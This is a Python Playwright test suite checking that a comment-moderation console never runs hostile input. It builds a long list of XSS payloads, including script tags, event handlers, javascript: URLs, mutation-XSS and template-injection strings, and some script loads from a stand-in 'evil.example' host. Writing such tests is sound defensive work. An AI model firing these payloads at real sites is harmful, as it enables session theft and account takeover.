"""Strangers' words are text: in every field a comment has, on every page, nothing of it acts."""

from __future__ import annotations

import contextlib
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.conftest import Opened, idle
from tests.browser.service import Site

ACT = "window.struck=1,alert(1)"  # what a payload that worked would do
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>", "<img src='x' onerror='{}'>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>', "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{}</script></svg>#x\"></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", '<math href="javascript:{}">x</math>',
    "<body onload={}>", "<body onpageshow={}>", '<iframe src="javascript:{}"></iframe>', '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<object data="javascript:{}"></object>', '<embed src="javascript:{}">', '<link rel=stylesheet href="javascript:{}">', "<link rel=import href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">', '<base href="javascript:{}//">', '<form action="javascript:{}"><button>x</button></form>',
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<video src=x onerror={}></video>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<details open ontoggle={}>x</details>", "<marquee onstart={}>x</marquee>", "<div onmouseover={}>x</div>", '<div style="animation-name:x" onanimationstart={}>',
    "<style>@import 'javascript:{}';</style>", "<style>*{background:url(javascript:1)}</style>", '<div style="background:url(javascript:{})">', '<a href="javascript:{}">x</a>',
    '<a href="&#106;avascript:{}">x</a>', '<a href="java\tscript:{}">x</a>', '<a href=" javascript:{}">x</a>', "<a href='vbscript:{}'>x</a>", '<a href="data:text/html,<script>{}</script>">x</a>',
    "<a href=x id=location>x</a>", "<img name=getElementById>", "<form id=card><input name=focus></form>", "<template><script>{}</script></template>", '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<!--<img src="--><img src=x onerror={}>">', "<![CDATA[<script>{}</script>]]>", '<?xml version="1.0"?><script>{}</script>', "<isindex type=image src=1 onerror={}>", "<x onclick={} tabindex=1 id=x>x</x>",
    "<button popovertarget=x onbeforetoggle={}>x</button>", "<dialog open onclose={}>x</dialog>", "<plaintext>", "<xmp><script>{}</script></xmp>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<keygen autofocus onfocus={}>", '<portal src="javascript:{}">', "<slot onslotchange={}>", "<custom-element onclick={}>", "<frameset onload={}>", "<applet code=x onerror={}>",
)  # fmt: skip
BREAKS = (
    '"><script>{}</script>', "'><script>{}</script>", '" onfocus={} autofocus x="', "' onfocus={} autofocus x='", "` onfocus={} autofocus x=`", '"><img src=x onerror={}>', "'\"><svg/onload={}>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "*/{}/*", '\\"-{}//', "\\'-{}//",
    "';{}//", '";{}//', "`;{}//", "${{{}}}", "</option></select><img src=x onerror={}>", "</mark><img src=x onerror={}>", "</bdi><script>{}</script>", "\n<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "<\u200bscript>{}</script>", "<scr\u00adipt>{}</script>", "\u202e>tpircs/<{}>tpircs<",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% raw %}{{7*7}}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "@(7*7)", "{{=7*7}}", "{7*7}", "{{{7*7}}}", "{n}", "{name} {text}", "$&", "$1", "%s%s%n",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "javascript://news.example/%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:null/1", "file:///etc/passwd",
    'https://x.example/"onclick={}', "https://x.example/'><script>{}</script>", "https://user:pass@x.example/", "//evil.example/x", "http://[::1]:{}", "www.x.example/<script>{}</script>",
)  # fmt: skip
SHAPES = (
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "hasOwnProperty",
    "\u2066x\u2069",
    "\u0001\u0002",
    "a\u0301" * 60,
    "__proto__",
    "constructor",
    "toString",
    "../../v1/me",
    "a/b?c=d#e",
    "%2e%2e%2f",
    "\u202eevil",
    "\ufeff",
    "x" * 200,
    "😀" * 40,
)
PAYLOADS = [one.replace("{}", ACT) for one in (*TAGS, *BREAKS, *TEMPLATES, *ADDRESSES)] + list(SHAPES)

# What would have acted: a mark on the window, a script or frame or handler that the page did not bring.
STRUCK = """() => ({
  struck: window.struck ?? null,
  scripts: [...document.scripts].filter((one) => !one.src.includes('/console/static/main.js')).length,
  frames: document.querySelectorAll('iframe, object, embed, base, form[action], link:not([href^=static])').length,
  images: document.querySelectorAll('img, video, audio').length,
  handlers: [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some((it) => /^on/i.test(it.name) || it.name === 'style')).length,
  links: [...document.querySelectorAll('a')].filter((one) => !one.href.startsWith(location.origin)).length,
})"""
QUIET = {"struck": None, "scripts": 0, "frames": 0, "images": 0, "handlers": 0, "links": 0}


def hostile(number: int, payload: str) -> dict[str, Any]:
    """A comment that carries the payload wherever a comment carries anything."""
    short = payload[:100].strip() or "x"
    return {
        "id": f"{number:03}-{''.join(one for one in payload if one.isprintable() and one != ' ')[:80]}",
        "text": f"{payload} https://x.example/{quote(payload[:60])}",
        "author": {"id": short, "name": payload[:80], "url": f"https://x.example/{quote(payload[:80])}", "user_agent": payload[:200]},
        "article": {"id": short, "url": f"https://x.example/{quote(payload[:80])}", "title": payload[:200]},
        "metadata": {short: payload, "nested": {"deep": [payload]}},
    }  # fmt: skip


def quiet(page: Page) -> None:
    assert page.evaluate(STRUCK) == QUIET


@pytest.mark.timeout(280)
def test_payloads_in_every_field_do_nothing(site: Site, opened: Opened, faults: list[str]) -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 150
    left = []
    for number, payload in enumerate(PAYLOADS):
        comment = hostile(number, payload)
        found = site.want("POST", "/comments/batch", [comment], key=site.site_key)["items"][0]
        for field in (
            "id",
            "author",
            "article",
        ):  # what the service refuses in one field stands in the others
            if found["status_code"] == 422:
                faulty = {one["pointer"].split("/")[1] for one in found["problem"]["errors"]}
                assert "text" not in faulty, found
                if field in faulty:
                    comment = {**comment, field: f"{number:03}"} if field == "id" else _without(comment, field, found)  # fmt: skip
                    found = site.want("POST", "/comments/batch", [comment], key=site.site_key)["items"][0]
        assert found["status_code"] == 202, (payload, found)
        left.append(comment["id"])
    site.until(lambda: site.counts()["pending"] == len(PAYLOADS))
    for comment_id, payload in zip(left[::10], PAYLOADS[::10], strict=True):
        path = f"/comments/{quote(comment_id, safe='')}"
        site.want("POST", f"{path}/notes", {"text": payload})
        site.want("POST", f"{path}/escalate", {"reason": payload[:400]})
    page = opened(site)
    for number in range(len(PAYLOADS) - len(left[::10])):
        page.evaluate("document.querySelectorAll('#card details').forEach((one) => { one.open = true; })")
        if number % 10 == 0:
            page.wait_for_selector("#card .thread li, #card .thread p")  # what stands around it, too
            quiet(page)
        page.keyboard.press("j")
    quiet(page)
    page.goto(f"{site.service.url}/console/?queue=escalated")
    for _ in left[::10]:
        page.wait_for_selector("#card .thread li, #card .thread p")
        quiet(page)
        page.keyboard.press("j")
    for view in ("overview", "policy"):
        page.goto(f"{site.service.url}/console/?view={view}")
        page.wait_for_selector(".panel")
        quiet(page)
    idle(page)
    assert faults == []


def _without(comment: dict[str, Any], field: str, found: dict[str, Any]) -> dict[str, Any]:
    """The comment without what of a field was refused."""
    kept = dict(comment[field])
    for one in found["problem"]["errors"]:
        parts = one["pointer"].split("/")
        if parts[1] == field:
            kept.pop(parts[2], None)
    return {**comment, field: kept}


def test_payloads_in_the_address_bar_do_nothing(site: Site, opened: Opened) -> None:
    site.texts(["One comment."])
    page = opened(site)
    for payload in PAYLOADS[::3]:
        parts = [f"{name}={quote(payload)}" for name in ("q", "reason", "article", "author", "tag", "site", "queue", "order", "view", "newer")]  # fmt: skip
        page.goto(f"{site.service.url}/console/?{'&'.join(parts)}")
        page.wait_for_selector(".queue")
        page.wait_for_selector("#card:not([hidden]), .empty:not([hidden])")
        quiet(page)


def test_names_of_sites_moderators_and_reasons_do_nothing(site: Site, opened: Opened) -> None:
    name = '<img src=x onerror="alert(1)">'
    site.add_key(name)
    site.texts(["One.", "Two."])
    site.want("POST", "/queues/pending/claim", {"ids": ["c-0001"]}, key=site.keys[name])
    page = opened(site, name)
    quiet(page)
    page.keyboard.press("f")
    other = opened(site, "ann", "?view=overview")
    other.wait_for_selector(".panel")
    quiet(other)


def test_characters_that_act_unseen_are_shown(site: Site, opened: Opened) -> None:
    site.texts(["abc\u202egnp.exe\u202c and zero\u200bwidth, but نمی\u200cخواهم and 👩\u200d💻 as they are"])
    page = opened(site)
    assert page.locator("#card-text .control").all_inner_texts() == ["RLO", "PDF", "ZWSP"]
    text = page.locator("#card-text").text_content() or ""
    assert not set(text) & {"\u202e", "\u202c", "\u200b"}
    assert "نمی\u200cخواهم" in text
    assert "👩\u200d💻" in text
    assert "⟦RLO⟧" in (page.locator(".row-text").text_content() or "")


def test_the_console_brings_no_inline_code(site: Site, opened: Opened) -> None:
    page = opened(site)
    found = page.evaluate(
        """async () => {
          const answer = await fetch('/console/');
          const text = await answer.text();
          return {csp: answer.headers.get('Content-Security-Policy'), inline: /<script(?![^>]*src=)|<style|\\sstyle=|\\son[a-z]+=/i.test(text)};
        }"""
    )
    assert "unsafe" not in found["csp"]
    assert found["inline"] is False


def test_the_console_cannot_be_framed(site: Site, browser: Browser) -> None:
    with contextlib.closing(browser.new_page()) as page:
        with page.expect_event("framenavigated", lambda frame: frame.parent_frame is not None):
            page.set_content(f"<iframe src='{site.service.url}/console/'></iframe>")
        frame = page.frames[1]
        assert frame.url.startswith("chrome-error://"), frame.url
        assert frame.locator("#main").count() == 0
